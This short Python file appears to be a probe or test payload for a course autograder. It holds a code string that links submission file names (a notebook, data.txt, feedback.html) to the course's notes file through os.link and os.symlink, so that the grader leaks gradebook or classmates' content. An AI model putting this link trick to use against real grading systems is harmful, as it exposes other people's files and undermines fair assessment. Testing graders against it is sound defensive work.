"""Makes links to the gradebook and to neighbours, in the hope that the grader copies through them."""

FIRST = """
import os
for name in ("01_relu_loop.ipynb", "data.txt", "timestamp.txt", "feedback.html"):
    for how in (os.link, os.symlink):
        try:
            how("@COURSE@/notes.txt", name)
            print(open(name).read())
        except OSError as error:
            print(error)
"""
